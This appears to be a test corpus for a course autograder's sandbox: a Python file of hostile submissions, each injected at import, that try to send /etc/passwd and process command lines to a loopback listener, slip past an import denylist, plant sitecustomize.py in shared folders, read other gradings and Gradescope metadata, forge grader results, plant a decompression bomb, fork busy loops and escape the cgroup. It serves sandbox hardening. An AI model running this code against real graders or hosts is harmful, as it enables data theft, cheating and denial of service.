"""
Hostile submissions that attack the machine rather than the harness: network, other gradings'
folders, files left in shared and world-writable folders, kernel keys, a thread that keeps the
child alive, /proc of other processes, a hang past the whole run's budget, memory beyond the
container's, the autograder root and a batch export read from outside /tmp, an inotify-timed
append to an output, busy loops next to a concurrent grading, a background process that forges
later probes' outputs, and attacks on the sandbox's own design (its link, descriptors, cgroup,
parent). Each is the reference model (or the untouched template, where the attack would give
points to a submission that has none) with a few lines added at import, so its honest score is
known. Merged into build.py's CASES; graded by tests/corpora/test_hostile_os.py, which
substitutes the placeholders (port, token, paths).
"""

IMPORTS_END = 'from mingpt.utils import CfgNode as CN\n'

NET = '''
# HOSTILE: reach a listener on the loopback through __import__ (the import denylist reads only import
# statements), the raw socket syscall through ctypes, IPv6 and AF_UNIX; send the job, /etc/passwd and
# the command lines of every process
def _hostile_net():
    found = []
    payload = b'HOSTILE-LEAK '
    for path in ('/etc/passwd', '/proc/self/cmdline', '/proc/1/cmdline', os.path.join(os.getcwd(), '..', 'job.json')):
        try:
            with open(path, 'rb') as f:
                payload += f.read()[:2000]
        except Exception:
            pass
    sock = __import__('so' + 'cket')
    for family, address in ((sock.AF_INET, ('127.0.0.1', 47001)), (sock.AF_INET6, ('::1', 47001))):
        try:
            s = sock.socket(family, sock.SOCK_STREAM)
            s.settimeout(3)
            s.connect(address)
            s.sendall(payload)
            s.close()
            found.append('connected')
        except Exception as e:
            found.append(type(e).__name__)
    try:
        sock.socket(sock.AF_UNIX, sock.SOCK_STREAM).close()
        found.append('unix-socket-made')
    except Exception as e:
        found.append(type(e).__name__)
    try:
        ct = __import__('ct' + 'ypes')
        libc = ct.CDLL(None, use_errno=True)
        fd = libc.syscall(41 if os.uname().machine == 'x86_64' else 198, 2, 1, 0)
        found.append('raw-socket-fd=%d errno=%d' % (fd, ct.get_errno()))
    except Exception as e:
        found.append(type(e).__name__)
    print('HOSTILE-NET %s' % ' '.join(found))


_hostile_net()
'''

PLANT = '''
# HOSTILE: plant files in the shared temp folders, meant to outlive the grading: an importable torch.py
# and sitecustomize.py, 8 MB in /dev/shm, 10,000 inodes (past sandbox.scratch_inodes), and a folder locked with mode 0
def _hostile_plant():
    made = []
    for top in ('/tmp', '/var/tmp', '/dev/shm'):
        folder = os.path.join(top, 'hw1-HOSTILETOKEN')
        try:
            os.makedirs(folder, exist_ok=True)
            for name in ('torch.py', 'sitecustomize.py'):
                with open(os.path.join(folder, name), 'w') as f:
                    f.write('print("HOSTILE-PLANTED")\\n')
            made.append(folder)
        except Exception as e:
            made.append('%s:%s' % (top, type(e).__name__))
    try:
        with open('/dev/shm/hw1-HOSTILETOKEN-big', 'wb') as f:
            for _ in range(8):
                f.write(b'x' * (1 << 20))
        made.append('big')
    except Exception as e:
        made.append('big:%s' % type(e).__name__)
    flood = '/tmp/hw1-HOSTILETOKEN-inodes'
    count = 0
    try:
        os.makedirs(flood, exist_ok=True)
        for i in range(10000):
            open(os.path.join(flood, str(i)), 'w').close()
            count += 1
    except Exception as e:
        made.append('inodes:%s' % type(e).__name__)
    try:
        locked = '/tmp/hw1-HOSTILETOKEN-locked'
        os.makedirs(os.path.join(locked, 'inner'), exist_ok=True)
        open(os.path.join(locked, 'inner', 'kept'), 'w').close()
        os.chmod(os.path.join(locked, 'inner'), 0)
        os.chmod(locked, 0)
        made.append('locked')
    except Exception as e:
        made.append('locked:%s' % type(e).__name__)
    print('HOSTILE-PLANT %d inodes, %s' % (count, ' '.join(made)))


_hostile_plant()
'''

THREAD = '''
# HOSTILE: a non-daemon thread that never ends: without os._exit the child would wait for it for the
# whole time budget after the last probe
import threading as _hostile_threading
import time as _hostile_time


def _hostile_forever():
    while True:
        _hostile_time.sleep(0.5)


_hostile_threading.Thread(target=_hostile_forever, name='hostile-forever').start()
'''

PROC = '''
# HOSTILE: read the command line and environment of every other process through /proc
def _hostile_proc():
    mine, seen = os.getpid(), []
    for entry in os.listdir('/proc'):
        if entry.isdigit() and int(entry) != mine:
            try:
                with open('/proc/%s/cmdline' % entry, 'rb') as f:
                    seen.append(f.read().replace(b'\\0', b' ').decode(errors='replace')[:160])
            except Exception:
                pass
    print('HOSTILE-PROC %d visible: %s' % (len(seen), ' | '.join(seen)[:900]))


_hostile_proc()
'''

VICTIM = '''
# HOSTILE (victim of other_reader): leave a secret in its private folders and in the shared /tmp, then
# stay alive at import (until the test's import timeout) so that a concurrent grading can look for it
import time as _hostile_time
with open(os.path.join(os.environ.get('TMPDIR', '.'), 'secret.txt'), 'w') as _f:
    _f.write('SECRET-HOSTILETOKEN')
with open('/tmp/hw1-HOSTILETOKEN-secret.txt', 'w') as _f:
    _f.write('SECRET-HOSTILETOKEN')
while True:
    _hostile_time.sleep(0.2)
'''

READER = '''
# HOSTILE: read a concurrent grading's folders (its scratch, job, outputs, temp files); the test
# writes that grading's scratch path over /HOSTILE-TARGET
def _hostile_read():
    target = '/HOSTILE-TARGET'
    found = []
    for path in ('/var/lib/hw1-sandbox', target, target + '/code/mingpt/model.py', target + '/p-import/job/job.json',
                 target + '/p-import/job/out', target + '/p-import/job/home', target + '/p-import/job/home/secret.txt',
                 '/tmp/hw1-HOSTILETOKEN-secret.txt'):
        try:
            if os.path.isdir(path):
                found.append('%s: LISTED %s' % (path, sorted(os.listdir(path))[:5]))
            else:
                with open(path, 'rb') as f:
                    found.append('%s: READ %r' % (path, f.read()[:60]))
        except Exception as e:
            found.append('%s: %s' % (path, type(e).__name__))
    print('HOSTILE-OTHER ' + ' ;; '.join(found))


_hostile_read()
'''

HANG = '''
# HOSTILE: hang at import for longer than the whole grading may take (the test gives the import a
# timeout beyond the watchdog's budget, so only the watchdog can end it)
while True:
    pass
'''

MEMORY = '''
# HOSTILE: 700 MB allocated and touched at import: within the child's address-space limit, beyond what
# a 768 MB container holds together with torch and the grader
_HOSTILE_HOG = torch.ones(175_000_000)
'''


KEYRING = '''
# HOSTILE: leave a key in the sandbox user's kernel keyrings (user, session, persistent), where it would
# outlive the grading and be read by the next submission graded as the same user
def _hostile_keys():
    ctypes = __import__('ct' + 'ypes')   # the import denylist reads import statements only
    libc = ctypes.CDLL(None, use_errno=True)
    nr = {'x86_64': (248, 250), 'aarch64': (217, 219)}[os.uname().machine]
    found = []
    for ring in (-4, -5, -3):   # KEY_SPEC_USER_KEYRING, USER_SESSION_KEYRING, SESSION_KEYRING
        key = libc.syscall(nr[0], b'user\\0', b'hw1-HOSTILETOKEN\\0', b'HOSTILE-KEY', 11, ring)
        found.append('add_key(%d)=%d errno=%d' % (ring, key, ctypes.get_errno()))
    persistent = libc.syscall(nr[1], 22, -1, -2)   # KEYCTL_GET_PERSISTENT
    found.append('persistent=%d errno=%d' % (persistent, ctypes.get_errno()))
    print('HOSTILE-KEYS ' + ' '.join(found))


_hostile_keys()
'''

SHARED_DIRS = '''
# HOSTILE: fill every world-writable place it can find (not only /tmp): /run/lock, /dev/shm, /var/tmp,
# /dev/mqueue (a POSIX message queue), 3 x 8 MB each, meant to outlive the grading
def _hostile_shared():
    found = []
    for top in ('/run/lock', '/dev/shm', '/var/tmp', '/tmp', '/dev/mqueue', '/var/crash'):
        try:
            for i in range(3):
                with open(os.path.join(top, 'hw1-HOSTILETOKEN-%d' % i), 'wb') as f:
                    f.write(b'x' * (8 << 20))
            found.append('%s:written' % top)
        except Exception as e:
            found.append('%s:%s' % (top, type(e).__name__))
    ctypes = __import__('ct' + 'ypes')   # the import denylist reads import statements only
    libc = ctypes.CDLL(None, use_errno=True)
    nr = {'x86_64': 240, 'aarch64': 180}[os.uname().machine]
    q = libc.syscall(nr, b'hw1-HOSTILETOKEN\\0', os.O_CREAT | os.O_RDWR, 0o600, 0)
    found.append('mq_open=%d errno=%d' % (q, ctypes.get_errno()))
    print('HOSTILE-SHARED ' + ' '.join(found))


_hostile_shared()
'''

METADATA = '''
# HOSTILE: read Gradescope's submission_metadata.json (earlier submissions and their hidden results) and the
# rest of the autograder root, which lies outside /tmp, and print it into test 1.1's output
def _hostile_metadata():
    found = []
    for path in ('/autograder/submission_metadata.json', '/autograder', '/autograder/submission',
                 '/autograder/source/grading.yaml', '/autograder/results'):
        try:
            if os.path.isdir(path):
                found.append('%s: LISTED %s' % (path, sorted(os.listdir(path))[:6]))
            else:
                with open(path) as f:
                    found.append('%s: READ %s' % (path, f.read()[:400]))
        except Exception as e:
            found.append('%s: %s' % (path, type(e).__name__))
    print('HOSTILE-META ' + ' ;; '.join(found))


_hostile_metadata()
'''

CLASSMATE = '''
# HOSTILE: in a batch export outside /tmp, run a classmate's model.py as its own (the test writes the
# classmate's folder over /HOSTILE-CLASSMATE); an untouched template would then score a correct model's points
def _hostile_classmate():
    path = '/HOSTILE-CLASSMATE/model.py'
    try:
        with open(path) as f:
            source = f.read()
        exec(compile(source, path, 'exec'), globals())
        print('HOSTILE-CLASSMATE ran the classmate\\'s code')
    except Exception as e:
        print('HOSTILE-CLASSMATE %s' % type(e).__name__)


_hostile_classmate()
'''

INOTIFY = '''
# HOSTILE: a detached watcher (inotify) that appends a deflated member (a bomb) to each .npz the moment the
# probe renames it into out/, after the harness would have checked its size; the grader must not read it
def _hostile_inotify():
    ctypes = __import__('ct' + 'ypes')   # the import denylist reads import statements only
    import struct
    import zipfile
    out = os.path.join(os.path.dirname(os.environ['TMPDIR']), 'out')
    blob = os.path.join(os.environ['TMPDIR'], 'bomb.zip')
    header = ("{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }" % (128 << 20)).encode()
    header = b'\\x93NUMPY\\x01\\x00' + (118).to_bytes(2, 'little') + header.ljust(117) + b'\\n'
    with zipfile.ZipFile(blob, 'w', zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        with z.open('d2_T5.npy', 'w') as m:   # 128 MiB inflated: built again in every probe process, so kept small
            m.write(header)
            for _ in range(128):
                m.write(bytes(1 << 20))
    bomb = open(blob, 'rb').read()
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init()
    libc.inotify_add_watch(fd, out.encode(), 0x00000080 | 0x00000008)   # IN_MOVED_TO | IN_CLOSE_WRITE
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                data = os.read(fd, 4096)
                i = 0
                while i < len(data):
                    _wd, _mask, _cookie, size = struct.unpack_from('iIII', data, i)
                    name = data[i + 16:i + 16 + size].rstrip(b'\\0').decode()
                    i += 16 + size
                    if name.endswith('.npz') and not name.startswith('.'):
                        with open(os.path.join(out, name), 'ab') as f:
                            f.write(bomb)
        os._exit(0)
    print('HOSTILE-INOTIFY watching %s' % out)


_hostile_inotify()
'''

BUSY = '''
# HOSTILE: 60 busy loops in every process of this grading, to starve a concurrent grading of the CPU
for _hostile_i in range(60):
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError:
        break
'''

FORGER = '''
# HOSTILE: a detached process started at import that outlives its probe: it keeps writing forged results
# (status ok, zeros) into every probe folder it can find next to its own, hoping a later probe's are read
def _hostile_forger():
    import json
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            scratch = os.path.abspath(os.path.join(os.environ['TMPDIR'], '..', '..', '..'))
            while True:
                try:
                    folders = [os.path.join(scratch, p, 'job', 'out') for p in os.listdir(scratch)
                               if p.startswith('p') and p[1:].isdigit()]   # the probes' folders, numbered
                except Exception:
                    folders = []
                for out in folders + ['/hw1/job/out']:
                    for probe in ('rope', 'rope-cache', 'gqa', 'loss-curve', 'memory'):
                        try:
                            with open(os.path.join(out, probe + '.json'), 'w') as f:
                                json.dump({'status': 'ok', 'seconds': 0.0, 'stdout': 'HOSTILE-FORGER'}, f)
                        except Exception:
                            pass
                time.sleep(0.01)
        os._exit(0)


_hostile_forger()
'''

DESIGN = '''
# HOSTILE: attacks on the sandbox's own design, at import: every descriptor it holds (the zygote's control
# socket must not be among them), the harness link given a forged first frame, a kill of its
# parent (the zygote, root), a move out of the grading's cgroup, a new user namespace, ptrace of the parent
def _hostile_design():
    ctypes = __import__('ct' + 'ypes')   # the import denylist reads import statements only
    import sys
    libc = ctypes.CDLL(None, use_errno=True)
    found = ['fds=%s' % ','.join(sorted(os.listdir('/proc/self/fd'), key=int))]
    try:
        os.write(3, b'\\x00hw1-wall-up')          # the wall's own frame, long after it was sent
        found.append('frame-answer=%r' % os.read(3, 64)[:8])
    except Exception as e:
        found.append('frame:%s' % type(e).__name__)
    for sig in (9, 19):
        if os.getppid() == 0:   # the first process of a PID namespace: its parent is out of sight (kill(0) would hit itself)
            found.append('kill-parent-%d:no-parent-visible' % sig)
            continue
        try:
            os.kill(os.getppid(), sig)
            found.append('kill-parent-%d:sent' % sig)
        except Exception as e:
            found.append('kill-parent-%d:%s' % (sig, type(e).__name__))
    for line in open('/proc/self/cgroup').read().splitlines():
        path = '/sys/fs/cgroup' + ('/unified' if line.startswith('0::') else '') + '/cgroup.procs'
        try:
            with open(path, 'w') as f:
                f.write(str(os.getpid()))
            found.append('cgroup-escape:written')
        except Exception as e:
            found.append('cgroup-escape:%s' % type(e).__name__)
        break
    nr = {'x86_64': (272, 101), 'aarch64': (97, 117)}[os.uname().machine]
    found.append('unshare-user=%d errno=%d' % (libc.syscall(nr[0], 0x10000000), ctypes.get_errno()))
    found.append('ptrace-parent=%d errno=%d' % (libc.syscall(nr[1], 16, os.getppid(), 0, 0), ctypes.get_errno()))
    # a flood of the link stops the probe (sandbox/probe.py): tests/corpora/test_hostile_os_link_cpu_sweep.py
    print('HOSTILE-DESIGN ' + ' '.join(found))


_hostile_design()
'''


def _at_import(code, base='reference'):
    return base, [(IMPORTS_END, IMPORTS_END + code)]


def _case(what, code, base='reference'):
    base, edits = _at_import(code, base)
    return what, base, edits


# name -> (what it does, base, edits): the format of build.py's CASES
CASES = {
    'net_socket': _case('connects to a loopback listener through __import__, raw syscalls, IPv6 and AF_UNIX', NET),
    'plant_tmp': _case('plants torch.py, sitecustomize.py, 8 MB and 10,000 inodes in /tmp, /var/tmp, /dev/shm', PLANT),
    'thread_forever': _case('starts a non-daemon thread that never ends', THREAD),
    'proc_snoop': _case("reads every other process's command line through /proc", PROC),
    'other_victim': _case('leaves secrets in its folders and /tmp, then waits at import (for other_reader)', VICTIM),
    'other_reader': _case("reads a concurrent grading's scratch folder, outputs and temp files", READER),
    'hang_past_watchdog': _case('hangs at import past the whole run\'s budget', HANG),
    'memory_hog': _case('allocates and touches 700 MB at import', MEMORY),
    'keyring': _case("adds keys to the sandbox user's kernel keyrings at import", KEYRING),
    'shared_dirs': _case('writes 3 x 8 MB into /run/lock, /dev/shm, /var/tmp, /tmp, /dev/mqueue at import', SHARED_DIRS),
    'read_metadata': _case('reads submission_metadata.json and the autograder root at import', METADATA),
    'classmate': _case("runs a classmate's model.py from a batch export at import (the untouched template)",
                       CLASSMATE, 'template'),
    'inotify_append': _case('appends a deflate bomb to each .npz right after it is written (inotify)', INOTIFY),
    'busy_loops': _case('starts 60 busy loops in every process of its grading', BUSY),
    'background_forger': _case("leaves a process that writes forged results into later probes' folders "
                               "(the untouched template)", FORGER, 'template'),
    'sandbox_design': _case('descriptors, the link (forged first frame), its parent, its cgroup, '
                            'user namespaces, ptrace', DESIGN),
}
